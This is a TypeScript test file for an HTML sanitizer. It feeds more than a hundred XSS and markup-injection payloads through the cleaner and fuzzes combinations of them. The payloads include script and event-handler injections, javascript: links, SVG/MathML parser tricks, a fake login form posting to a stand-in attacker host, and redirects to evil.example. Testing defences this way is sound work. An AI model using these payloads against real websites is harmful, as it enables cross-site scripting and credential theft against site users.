import { array, assert, constantFrom, oneof, property, string } from 'fast-check';
import { type DefaultTreeAdapterTypes, html, parseFragment } from 'parse5';
import { expect, test } from 'vitest';
import { POST_TAGS } from '../../../domain/posts/post-html.ts';
import { isFactId } from '../../../domain/pages/facts.ts';
import { BLANK, isOwnPath } from '../../../domain/pages/page-html.ts';
import { cleanHtml, cleanPage } from '../../../server/platform/html.ts';

type Node = DefaultTreeAdapterTypes.ChildNode;

/** The HTML of posts, messages and bios, and that of pages of the event, which also names facts and screens of the app. */
type Kind = 'post' | 'page';
const CLEANERS = { post: cleanHtml, page: cleanPage };

/** Returns what is not allowed in this HTML, as a browser parses it. */
function outsideTheList(given: string, kind: Kind = 'post'): string[] {
  const visit = (node: Node): string[] => {
    if (node.nodeName === '#text') return [];
    if (!('attrs' in node)) return [node.nodeName];
    const element = node;
    const children = element.nodeName === 'template' ? ['template'] : element.childNodes.flatMap(visit);
    const tag =
      [...POST_TAGS, ...(kind === 'page' ? ['data'] : [])].includes(element.tagName) &&
      element.namespaceURI === html.NS.HTML
        ? []
        : [element.tagName];
    return [
      ...tag,
      ...element.attrs
        .filter((attribute) => !(isAllowed(element, attribute) || (kind === 'page' && isOfPages(element, attribute))))
        .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
      ...children,
    ];
  };
  return parseFragment(given).childNodes.flatMap(visit);
}

const isOfPages = ({ tagName }: DefaultTreeAdapterTypes.Element, { name, value }: { name: string; value: string }) =>
  tagName === 'data' ? name === 'value' && (value === BLANK || isFactId(value)) : name === 'href' && isOwnPath(value);

function isAllowed(
  { tagName, attrs }: DefaultTreeAdapterTypes.Element,
  { name, value }: { name: string; value: string },
): boolean {
  if (tagName !== 'a' || (name === 'href' && !URL.canParse(value))) return false;
  if (name === 'rel') return value === 'nofollow noopener';
  const { protocol, username } = new URL(value);
  return (
    name === 'href' &&
    ['http:', 'https:', 'mailto:'].includes(protocol) &&
    username === '' &&
    attrs.some((other) => other.name === 'rel')
  );
}

const VECTORS: readonly string[] = [
  // Scripts that run at once.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '</script><script>alert(1)</script>',
  '<script>/*<p>*/alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<script type=module>import("//evil.example")</script>',
  // Scripts that run on an event.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<p onclick=alert(1)>tap</p>',
  '<p/onmouseover=alert(1)>x',
  '<strong onfocus=alert(1) autofocus tabindex=1>x</strong>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation:x" onanimationstart=alert(1)>x</p>',
  '<li oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x',
  '<a onpointerenter=alert(1)>x</a>',
  '<u oNcLiCk=alert(1)>x</u>',
  '<p "onclick=alert(1)>x',
  '<p \u0000onclick=alert(1)>x',
  // Dangerous link targets.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a&#x61vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://event.example@evil.example">x</a>',
  '<a href="https://ada:pw@example.org">x</a>',
  '<a href="blob:https://example.org/1">x</a>',
  '<a href="view-source:https://example.org">x</a>',
  '<a href="mailto:ada@example.org?cc=all@example.org&body=x">x</a>',
  '<a href="mailto:a@b.example%0Abcc:c@d.example">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://example.org" target="_top" ping="https://evil.example" download>x</a>',
  '<a href="https://exa\u202Emple.org">x</a>',
  '<a href=https://example.org/"onclick=alert(1)>x</a>',
  // Elements that switch the browser to other parsing rules.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><animate attributeName=href values=javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<applet code=x>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><p>x',
  '<!doctype html><p>x',
  '<?php echo 1 ?>',
  // Elements that take over the page or load something.
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example"</style>',
  '<style>p{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example);position:fixed;inset:0">x</p>',
  '<p class="toast" id="root" data-x="1" role="alert" slot="x" is="x-y">x</p>',
  '<form action=https://evil.example><input name=password><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<dialog open>x</dialog>',
  '<table background="//evil.example"><tr><td>x</table>',
  '<img src="https://evil.example/pixel.gif">',
  '<picture><source srcset="//evil.example"></picture>',
  '<bgsound src="//evil.example">',
  '<video poster="//evil.example">',
  '<portal src="//evil.example">',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<font color=red>x</font>',
  '<center>x</center>',
  '<frameset onload=alert(1)>',
  '<isindex action="javascript:alert(1)">',
  // Malformed markup.
  '<p',
  '<a href="https://example.org',
  "<a href='https://example.org\"><img src=x onerror=alert(1)>'>x</a>",
  '<b><i></b></i><u>',
  '</p></div></body>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<\u0000script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '＜script＞alert(1)＜/script＞',
  '<p>'.repeat(200),
  '<ul><li>'.repeat(80),
  '<b>'.repeat(500) + 'x',
  '<a href="https://example.org">'.repeat(20),
  `${'<'.repeat(300)}img src=x onerror=alert(1)>`,
  '\ud800<img src=x onerror=alert(1)>',
  'a<b>c',
  '1 < 2 & 3 > 2',
  '<p>\u2028</p>',
  '<a href="https://example.org/?a=1&copy=2&amp;lt=3">x</a>',
];

/** Hostile spellings of what only pages may have. */
const PAGE_VECTORS: readonly string[] = [
  '<data value="eventName" onclick=alert(1)>x</data>',
  '<data value="eventName"><img src=x onerror=alert(1)></data>',
  '<data value="constructor">x</data>',
  '<data value="&quot;><script>alert(1)</script>">x</data>',
  '<a href="/privacy" onclick=alert(1)>x</a>',
  '<a href="//evil.example/app">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/app/../../evil">x</a>',
  '<a href="/app/schedule?next=javascript:alert(1)">x</a>',
  '<a href="/api/admin/export">x</a>',
];

test.each(['post', 'page'] as const)(
  'cleaning hostile HTML of a %s leaves only listed elements, and is idempotent',
  (kind) => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(76);
    // The check works: unsanitized, most of this is not allowed.
    expect(VECTORS.filter((vector) => outsideThe(vector)).length).toBeGreaterThan(90);
    for (const vector of [...VECTORS, ...PAGE_VECTORS]) {
      const clean = CLEANERS[kind](vector);
      expect({ vector, outside: outsideTheList(clean, kind) }).toEqual({ vector, outside: [] });
      expect(CLEANERS[kind](clean)).toBe(clean);
    }
  },
);

const outsideThe = (vector: string): boolean => {
  try {
    return outsideTheList(vector).length > 0;
  } catch {
    return true; // Not a valid address.
  }
};

test('any combination of pieces gives allowed HTML, and sanitizing it again changes nothing', () => {
  const pieces = [
    ...VECTORS.filter(({ length }) => length < 200),
    ...POST_TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
    '<div>',
    '</div>',
    '<td>',
    '<h1>',
    '<',
    '>',
    '"',
    "'",
    '&',
    '&lt;',
    '<!--',
    '-->',
    '<a href="',
    '</',
  ];
  assert(
    property(
      array(oneof({ weight: 5, arbitrary: constantFrom(...pieces) }, { weight: 1, arbitrary: string() }), {
        maxLength: 12,
      }),
      (parts) => {
        const clean = cleanHtml(parts.join(''));
        expect(outsideTheList(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      },
    ),
    { numRuns: 1500 },
  );
});

test('everything that the post editor writes stays unchanged', () => {
  const post =
    '<h2>Tonight</h2><p>Meet us at the <strong>harbour</strong>, <em>bring</em> a <u>coat</u>.<br />See the ' +
    '<a href="https://example.org/map?day=1&amp;at=pier" rel="nofollow noopener">map</a> or ' +
    '<a href="mailto:crew@example.org" rel="nofollow noopener">write</a>.</p>' +
    '<ul><li>Tea</li><li>H<sub>2</sub>O</li></ul><ol><li>One</li></ol><blockquote><p>Quiet &amp; warm, 1 &lt; 2</p>' +
    '</blockquote><pre><code>let x = 1;</code></pre><hr /><p>日本語 العربية 👋🏽</p>';
  expect(cleanHtml(post)).toBe(post);
});

test('elements that other editors use as paragraphs and headings stay separate', () => {
  expect(cleanHtml('<div>Tonight</div><div>at the <b>harbour</b></div><div><br></div><div>Bring a coat</div>')).toBe(
    '<p>Tonight</p><p>at the <b>harbour</b></p><p><br /></p><p>Bring a coat</p>',
  );
  expect(cleanHtml('<section><h1>Tonight</h1><div><p>Tea</p><p>Cake</p></div></section>')).toBe(
    '<h2>Tonight</h2><p>Tea</p><p>Cake</p>',
  );
  expect(cleanHtml('<table><tr><td>Tea</td><td>3</td></tr></table><ul><li><div>Cake</div></li></ul>')).toBe(
    '<p>Tea</p><p>3</p><ul><li><p>Cake</p></li></ul>',
  );
  expect(cleanHtml('<p></p><div><div></div></div>')).toBe('');
});

test('links are marked as external for search engines and the target page, and forbidden ones become plain text', () => {
  expect(cleanHtml('<a href="https://example.org" rel="follow" target="_top">x</a>')).toBe(
    '<a href="https://example.org" rel="nofollow noopener">x</a>',
  );
  expect(cleanHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
});
